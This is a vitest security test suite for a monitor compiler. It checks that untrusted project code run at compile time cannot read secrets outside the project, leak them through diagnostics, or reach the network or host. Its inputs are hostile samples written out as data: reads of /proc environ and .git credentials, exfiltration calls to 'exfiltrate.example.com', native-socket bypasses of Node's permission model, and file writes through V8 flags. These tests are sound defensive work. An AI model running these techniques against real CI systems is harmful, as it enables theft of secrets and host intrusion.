import { mkdir, mkdtemp, readdir, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { createSocket as createUdpSocket } from "node:dgram";
import { createServer as createTcpServer } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { compileProject, type CompileResult } from "../../cli/compiler/index.js";
import { copyFixture, NOW } from "./support.js";

/**
 * A pull request's author controls the project's files, symbolic links included, and the code
 * that runs at compile time. Nothing outside the project may reach the manifest.
 */

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0)) await cleanup();
});

/** The `ok` fixture with one more monitor, whose name is `name` (an expression), plus `setup` done to the copy. */
async function projectWith(name: string, setup: (dir: string) => Promise<void>, imports: string | ((dir: string) => string) = ""): Promise<string> {
  const { dir, cleanup } = await copyFixture("ok");
  cleanups.push(cleanup);
  await setup(dir);
  const source = [
    'import { check, monitor } from "watchkeeper";',
    'import { readFileSync } from "node:fs";',
    typeof imports === "string" ? imports : imports(dir),
    "export const leak = monitor({",
    '  id: "leak",',
    `  name: ${name},`,
    '  schedule: { every: "1m" },',
    '  check: check.http({ url: "https://example.com/" }),',
    '  severity: "info",',
    "});",
  ].join("\n");
  await writeFile(path.join(dir, "monitors", "leak.ts"), source);
  return dir;
}

async function compile(dir: string): Promise<CompileResult> {
  return compileProject({ projectDir: dir, write: false, now: NOW });
}

/** An error at monitors/leak.ts, and no manifest. */
function expectRefused(result: CompileResult, code: string, line: number, message: RegExp): void {
  expect(result.manifest?.monitors.find((m) => m.id === "leak")?.name).toBeUndefined();
  expect(result.ok).toBe(false);
  const found = result.diagnostics.find((d) => d.code === code && d.file === "monitors/leak.ts" && d.line === line);
  expect(found, JSON.stringify(result.diagnostics, null, 2)).toBeDefined();
  expect(found!.message).toMatch(message);
  expect(found!.hint).toBeTruthy();
}

describe("a module reads the project and nothing else, whatever links the project holds", () => {
  it("a link to /proc does not give modules the compiler's environment", async () => {
    const dir = await projectWith("readFileSync(`data/p/${process.ppid}/environ`, \"utf8\")", async (dir) => {
      await mkdir(path.join(dir, "data"));
      await symlink("/proc", path.join(dir, "data", "p"));
    });
    expectRefused(await compile(dir), "WK2001", 6, /tries to read/);
  });

  it("a link to a file outside the project cannot be read", async () => {
    const outside = await mkdtemp(path.join(tmpdir(), "wk-outside-"));
    cleanups.push(() => rm(outside, { recursive: true, force: true }));
    await writeFile(path.join(outside, "token.txt"), "ci-token-value");
    const dir = await projectWith('readFileSync("monitors/token.txt", "utf8")', (dir) => symlink(path.join(outside, "token.txt"), path.join(dir, "monitors", "token.txt")));
    expectRefused(await compile(dir), "WK2001", 6, /tries to read/);
  });

  it("the checkout's .git folder cannot be read (it can hold the CI's token)", async () => {
    const dir = await projectWith('readFileSync(".git/config", "utf8")', async (dir) => {
      await mkdir(path.join(dir, ".git"));
      await writeFile(path.join(dir, ".git", "config"), '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW4=\n');
    });
    expectRefused(await compile(dir), "WK2001", 6, /tries to read/);
  });

  it("the state folder .watchkeeper cannot be read (wk deploy writes the PagerDuty routing keys there)", async () => {
    const dir = await projectWith('readFileSync(".watchkeeper/routing-keys.json", "utf8")', async (dir) => {
      await mkdir(path.join(dir, ".watchkeeper"));
      await writeFile(path.join(dir, ".watchkeeper", "routing-keys.json"), '{"payments":"R0UTINGKEYFROMTHEDEPLOY0000000000"}\n');
    });
    expectRefused(await compile(dir), "WK2001", 6, /tries to read/);
  });

  it("the project's own files stay readable, through a link inside it too", async () => {
    const dir = await projectWith('readFileSync("monitors/name.txt", "utf8").trim()', async (dir) => {
      await mkdir(path.join(dir, "data"));
      await writeFile(path.join(dir, "data", "name.txt"), "Read at compile time\n");
      await symlink("../data/name.txt", path.join(dir, "monitors", "name.txt"));
      await symlink("/proc", path.join(dir, "data", "p"));
    });
    const result = await compile(dir);
    expect(result.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
    expect(result.manifest?.monitors.find((m) => m.id === "leak")?.name).toBe("Read at compile time");
  });
});

describe("the bundle holds the project's files and packages, nothing from elsewhere", () => {
  async function outsideDir(): Promise<string> {
    const outside = await mkdtemp(path.join(tmpdir(), "wk-outside-"));
    cleanups.push(() => rm(outside, { recursive: true, force: true }));
    await writeFile(path.join(outside, "token.txt"), "ci-token-value");
    await writeFile(path.join(outside, "token.ts"), 'export const token: string = "ci-token-value";\n');
    await writeFile(path.join(outside, "literal.ts"), 'export const token = "ci-token-value";\n');
    await writeFile(path.join(outside, "dotenv"), "API_TOKEN=ci-token-value\n");
    return outside;
  }

  it("an absolute import of a file elsewhere is an error at the import, and nothing of it reaches a manifest", async () => {
    const outside = await outsideDir();
    const dir = await projectWith("String(token)", async () => undefined, `// @ts-ignore\nimport token from ${JSON.stringify(path.join(outside, "token.txt"))};`);
    const result = await compile(dir);
    expectRefused(result, "WK2007", 4, /outside the project/);
    expect(JSON.stringify(result)).not.toContain("ci-token-value");
  });

  it("an import through a link to a file elsewhere is an error at the import", async () => {
    const outside = await outsideDir();
    const dir = await projectWith("token", (dir) => symlink(path.join(outside, "token.ts"), path.join(dir, "monitors", "shared.ts")), 'import { token } from "./shared.js";');
    const result = await compile(dir);
    expectRefused(result, "WK2007", 3, /outside the project/);
    expect(JSON.stringify(result)).not.toContain("ci-token-value");
  });

  it("a type error cannot quote a file from elsewhere: the import is the one error reported", async () => {
    const outside = await outsideDir();
    const dir = await projectWith('"x"', async () => undefined, `import { token } from ${JSON.stringify(path.join(outside, "literal.js"))};\nexport const typed: "x" = token;`);
    const result = await compile(dir);
    expectRefused(result, "WK2007", 3, /outside the project/);
    expect(JSON.stringify(result)).not.toContain("ci-token-value");
  });

  it("a link that makes a secrets file look like a module does not show its text in diagnostics", async () => {
    const outside = await outsideDir();
    const dir = await projectWith('"x"', (dir) => symlink(path.join(outside, "dotenv"), path.join(dir, "monitors", "env.ts")), 'import "./env.js";');
    const result = await compile(dir);
    expectRefused(result, "WK2007", 3, /outside the project/);
    expect(JSON.stringify(result)).not.toContain("ci-token-value");
  });

  it("an import that climbs out with ../ is an error at the import", async () => {
    const outside = await outsideDir();
    const dir = await projectWith("token", async () => undefined, (dir) => `import { token } from ${JSON.stringify(path.relative(path.join(dir, "monitors"), path.join(outside, "token.js")))};`);
    const result = await compile(dir);
    expectRefused(result, "WK2007", 3, /outside the project/);
    expect(JSON.stringify(result)).not.toContain("ci-token-value");
  });

  it("a checkout's other files may be imported (a workspace's packages), its .git folder not", async () => {
    // The project in a subfolder of a Git checkout: ../shared is the checkout's, ../.git is not.
    const dir = await projectWith("`${limit} ${token}`", async (dir) => {
      await mkdir(path.join(dir, "..", ".git"), { recursive: true });
      await writeFile(path.join(dir, "..", ".git", "token.js"), 'export const token = "ci-token-value";\n');
      await mkdir(path.join(dir, "..", "shared"), { recursive: true });
      await writeFile(path.join(dir, "..", "shared", "limits.js"), "export const limit = 500;\n");
    }, 'import { limit } from "../../shared/limits.js";\nimport { token } from "../../.git/token.js";');
    const result = await compile(dir);
    expectRefused(result, "WK2007", 4, /outside the project/);
    expect(result.diagnostics.filter((d) => d.code === "WK2007")).toHaveLength(1);
    expect(JSON.stringify(result)).not.toContain("ci-token-value");
  });
});

describe("the type checker reads the project's files and packages, and shows nothing from elsewhere", () => {
  /** A file elsewhere holding a bare token (a mounted secret, a token a CI step wrote), linked into the project as `monitors/token.ts`. */
  async function linkedToken(dir: string): Promise<void> {
    const outside = await mkdtemp(path.join(tmpdir(), "wk-outside-"));
    cleanups.push(() => rm(outside, { recursive: true, force: true }));
    await writeFile(path.join(outside, "token"), "ghp_citokenvalue0123456789\n");
    await symlink(path.join(outside, "token"), path.join(dir, "monitors", "token.ts"));
  }

  // Neither form reaches the bundle, so only the type checker reads the file.
  const typeOnly: [string, string][] = [
    ["a triple-slash reference", '/// <reference path="./token.ts" />\nexport const n = 1;\n'],
    ["a type-only import", 'export type Token = typeof import("./token.js");\n'],
  ];
  for (const [what, source] of typeOnly) {
    it(`${what} to a link elsewhere is refused, and the file's text is not quoted`, async () => {
      const dir = await projectWith('"x"', async (dir) => {
        await linkedToken(dir);
        await writeFile(path.join(dir, "monitors", "types.ts"), source);
      });
      const result = await compile(dir);
      expect(result.ok).toBe(false);
      expect(JSON.stringify(result)).not.toContain("ghp_citokenvalue");
      const refusal = result.diagnostics.find((d) => d.code === "WK2007" && d.file === "monitors/token.ts");
      expect(refusal, JSON.stringify(result.diagnostics, null, 2)).toBeDefined();
      expect(refusal!.message).toMatch(/outside the project/);
    });
  }

  it("a type error in the project cannot quote a clean file elsewhere that only the checker read", async () => {
    const outside = await mkdtemp(path.join(tmpdir(), "wk-outside-"));
    cleanups.push(() => rm(outside, { recursive: true, force: true }));
    // Another checkout's constant: a file with no error of its own, whose literal type a message would show.
    await writeFile(path.join(outside, "constants.ts"), 'export const token = "ci-token-value";\n');
    const dir = await projectWith('"x"', async (dir) => {
      await symlink(path.join(outside, "constants.ts"), path.join(dir, "monitors", "constants.ts"));
      await writeFile(path.join(dir, "monitors", "types.ts"), 'type C = typeof import("./constants.js");\nexport const n: number = null as unknown as C["token"];\n');
    });
    const result = await compile(dir);
    expect(result.ok).toBe(false);
    expect(JSON.stringify(result)).not.toContain("ci-token-value");
    expect(result.diagnostics.map((d) => [d.code, d.file])).toEqual([["WK2007", "monitors/constants.ts"]]);
  });

  it("a link to the checker's own environment shows nothing of it (tsc runs with none)", async () => {
    const dir = await projectWith('"x"', async (dir) => {
      await mkdir(path.join(dir, "data"));
      await symlink("/proc/self/environ", path.join(dir, "data", "env.ts"));
      await writeFile(path.join(dir, "monitors", "types.ts"), '/// <reference path="../data/env.ts" />\nexport const n = 1;\n');
    });
    const result = await compile(dir);
    // Where tsc finds each NUL would give the length of every variable of the CI's environment.
    expect(result.diagnostics.filter((d) => d.file === "data/env.ts" && d.code !== "WK2007")).toEqual([]);
  });
});

describe("modules are listed from the project's own folders", () => {
  it("a link out of the project under monitors/ does not make files elsewhere modules", async () => {
    const outside = await mkdtemp(path.join(tmpdir(), "wk-outside-"));
    cleanups.push(() => rm(outside, { recursive: true, force: true }));
    await writeFile(path.join(outside, "planted.ts"), 'import { monitor, check } from "watchkeeper";\nexport const planted = monitor({ id: "planted", schedule: { every: "1m" }, check: check.http({ url: "https://example.com/" }), severity: "info" });\n');
    const { dir, cleanup } = await copyFixture("ok");
    cleanups.push(cleanup);
    await symlink(outside, path.join(dir, "monitors", "elsewhere"));
    const result = await compile(dir);
    expect(result.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
    expect(result.manifest?.monitors.map((m) => m.id)).not.toContain("planted");
  });

  it("a link to /proc under monitors/ does not keep the compile listing files forever", async () => {
    const { dir, cleanup } = await copyFixture("ok");
    cleanups.push(cleanup);
    await symlink("/proc", path.join(dir, "monitors", "proc"));
    const result = await compile(dir);
    expect(result.ok).toBe(true);
  }, 30_000);
});

describe("definitions hold text of a size a person reads", () => {
  it("a text past the limit is an error at the definition, not a crash of the compile", async () => {
    const dir = await projectWith('"x".repeat(1024 * 1024 + 1)', async () => undefined);
    const result = await compile(dir);
    expectRefused(result, "WK4002", 4, /a text of 1,048,577 characters \(at most 1,048,576\) at name/);
  });

  it("many texts under the limit that add up past a definition's total are an error too", async () => {
    const dir = await projectWith('"n"', async () => undefined);
    const source = (await import("node:fs")).readFileSync(path.join(dir, "monitors", "leak.ts"), "utf8")
      .replace('  severity: "info",', '  severity: "info",\n  labels: Object.fromEntries(Array.from({ length: 17 }, (_, i) => [`l${i}`, "y".repeat(1024 * 1024)])),');
    await writeFile(path.join(dir, "monitors", "leak.ts"), source);
    expectRefused(await compile(dir), "WK4002", 4, /more than 16,777,216 characters of text in all/);
  });

  it("a nested package folder and a nested .git are not readable either", async () => {
    const dir = await projectWith('readFileSync("data/node_modules/x/token.txt", "utf8")', async (dir) => {
      await mkdir(path.join(dir, "data", "node_modules", "x"), { recursive: true });
      await writeFile(path.join(dir, "data", "node_modules", "x", "token.txt"), "nested");
    });
    expectRefused(await compile(dir), "WK2001", 6, /tries to read/);
  });
});

describe("a module loading cannot use the network or learn the host", () => {
  /** A loopback port that counts the connections it gets: a module that reached it could send anything. */
  async function listener(): Promise<{ port: number; connections: () => number }> {
    let count = 0;
    const server = createTcpServer((socket) => {
      count++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    cleanups.push(() => new Promise((resolve) => server.close(() => resolve())));
    return { port: (server.address() as { port: number }).port, connections: () => count };
  }

  const network: [string, string, (port: number) => string][] = [
    ["fetch", "", (port) => `await fetch("http://127.0.0.1:${port}/?host=ci").then((r) => r.text())`],
    ["a TCP connection", 'import { connect } from "node:net";', (port) => `String(connect(${port}, "127.0.0.1"))`],
    ["an HTTP request", 'import http from "node:http";', (port) => `String(http.get("http://127.0.0.1:${port}/"))`],
    ["a UDP datagram", 'import dgram from "node:dgram";', (port) => `String(dgram.createSocket("udp4").send("x", ${port}, "127.0.0.1"))`],
    ["a DNS query", 'import { promises as dns } from "node:dns";', () => `(await dns.resolveTxt("exfiltrate.example.com")).join()`],
  ];
  for (const [what, imports, name] of network) {
    it(`${what} is refused at its line, and nothing reaches the listener`, async () => {
      const target = await listener();
      const dir = await projectWith(name(target.port), async () => undefined, imports);
      expectRefused(await compile(dir), "WK2001", 6, /use the network/);
      await new Promise((resolve) => setTimeout(resolve, 100));
      expect(target.connections()).toBe(0);
    });
  }

  const host: [string, string, string][] = [
    ["the host's name", 'import { hostname } from "node:os";', "hostname()"],
    ["its network interfaces", 'import os from "node:os";', "JSON.stringify(os.networkInterfaces())"],
    ["its user", 'import { userInfo } from "node:os";', "userInfo().username"],
    ["a diagnostic report", "", "JSON.stringify(process.report.getReport())"],
  ];
  for (const [what, imports, name] of host) {
    it(`${what} is refused at its line`, async () => {
      const dir = await projectWith(name, async () => undefined, imports);
      expectRefused(await compile(dir), "WK2001", 6, /host's name, addresses, user or reports/);
    });
  }
});

describe("a module loading cannot reach the network through the native handles behind sockets", () => {
  // On Node before 25 the permission model does not restrict the network; the functions guardHost
  // refuses are not the only way in. A socket's native handle (`new tls.TLSSocket()._handle._parent`
  // is a TCP or pipe handle, `new dgram.Socket()` holds a UDP one, a resolver holds c-ares's channel)
  // connects, binds and sends by itself; it wants a request object with native slots, and any other
  // handle serves as one.
  const handles = 'import tls from "node:tls"; import dgram from "node:dgram"; import dns from "node:dns";\nconst borrowed = (): any => { const u = new (dgram.Socket as any)("udp4"); return u[Object.getOwnPropertySymbols(u).find((s) => s.description === "state symbol")!].handle; };';

  async function udpListener(): Promise<{ port: number; datagrams: () => number }> {
    let count = 0;
    const socket = createUdpSocket("udp4", () => count++);
    await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
    cleanups.push(() => new Promise((resolve) => socket.close(() => resolve())));
    return { port: socket.address().port, datagrams: () => count };
  }

  async function streamListener(address: number | string): Promise<() => number> {
    let count = 0;
    const server = createTcpServer((socket) => {
      count++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => (typeof address === "number" ? server.listen(address, "127.0.0.1", resolve) : server.listen(address, resolve)));
    cleanups.push(() => new Promise((resolve) => server.close(() => resolve())));
    return () => count;
  }

  /** The module's name expression on line 7 (the helper takes line 4), refused there, and nothing received. */
  async function expectNothingSent(name: string, received: () => number): Promise<void> {
    const dir = await projectWith(name, async () => undefined, handles);
    expectRefused(await compile(dir), "WK2001", 7, /use the network/);
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(received()).toBe(0);
  }

  it("a TCP connection through a socket's native handle is refused at its line, and nothing reaches the listener", async () => {
    const server = createTcpServer();
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const port = (server.address() as { port: number }).port;
    await new Promise<void>((resolve) => server.close(() => resolve()));
    const connections = await streamListener(port);
    await expectNothingSent(
      `await new Promise<string>((resolve) => { const req = borrowed(); req.oncomplete = () => resolve("connected"); (new tls.TLSSocket(null as any) as any)._handle._parent.connect(req, "127.0.0.1", ${port}); })`,
      connections,
    );
  });

  it("a connection to a unix socket (a Docker daemon's) through a pipe handle is refused at its line", async () => {
    const folder = await mkdtemp(path.join(tmpdir(), "wk-socket-"));
    cleanups.push(() => rm(folder, { recursive: true, force: true }));
    const socketPath = path.join(folder, "docker.sock");
    const connections = await streamListener(socketPath);
    await expectNothingSent(
      `await new Promise<string>((resolve) => { const req = borrowed(); req.oncomplete = () => resolve("connected"); (new tls.TLSSocket(null as any, { pipe: true } as any) as any)._handle._parent.connect(req, ${JSON.stringify(socketPath)}); })`,
      connections,
    );
  });

  it("a UDP datagram through dgram's native handle is refused at its line, and nothing reaches the listener", async () => {
    const target = await udpListener();
    await expectNothingSent(`String(borrowed().send({}, [Buffer.from("ci-host")], 1, ${target.port}, "127.0.0.1", false))`, target.datagrams);
  });

  it("a DNS query through the resolver's native channel is refused at its line, and no server is asked", async () => {
    const target = await udpListener();
    await expectNothingSent(
      `(() => { const r = new dns.Resolver(); r.setServers(["127.0.0.1:${target.port}"]); const req = borrowed(); req.oncomplete = () => undefined; return String((r as any)._handle.queryTxt(req, "exfiltrate.example.com")); })()`,
      target.datagrams,
    );
  });
});

describe("a module loading cannot write files through Node's diagnostics", () => {
  // The permission model refuses the fs module's writes, not the files V8 and Node's diagnostics
  // write for themselves: V8's --trace-turbo writes wherever --trace-turbo-path and its file
  // prefix say (a prefix that fills the name's 256 characters loses its suffix, so any path),
  // a heap snapshot near the heap limit goes to the working folder, and so does a trace of events.
  const writers: [string, string, (outside: string) => string][] = [
    [
      "V8's flags (a compiler trace written to any folder)",
      'import { setFlagsFromString } from "node:v8";',
      (outside) =>
        `(setFlagsFromString(${JSON.stringify(`--trace-turbo-path=${outside}`)}), setFlagsFromString("--trace-turbo"), String(Array.from({ length: 200000 }, (_, i) => i).reduce((a: number, b: number) => a + b * 2, 0)))`,
    ],
    ["a heap snapshot near the heap limit", 'import v8 from "node:v8";', () => "String(v8.setHeapSnapshotNearHeapLimit(1))"],
    ["a trace of events", 'import { createTracing } from "node:trace_events";', () => 'String(createTracing({ categories: ["node.perf.usertiming"] }).enable())'],
  ];
  for (const [what, imports, name] of writers) {
    it(`${what} is refused at its line, and nothing is written`, async () => {
      const outside = await mkdtemp(path.join(tmpdir(), "wk-outside-"));
      cleanups.push(() => rm(outside, { recursive: true, force: true }));
      const dir = await projectWith(name(outside), async () => undefined, imports);
      const before = new Set(await readdir(dir));
      expectRefused(await compile(dir), "WK2001", 6, /write files/);
      expect(await readdir(outside)).toEqual([]);
      expect((await readdir(dir)).filter((file) => !before.has(file))).toEqual([]);
    });
  }
});
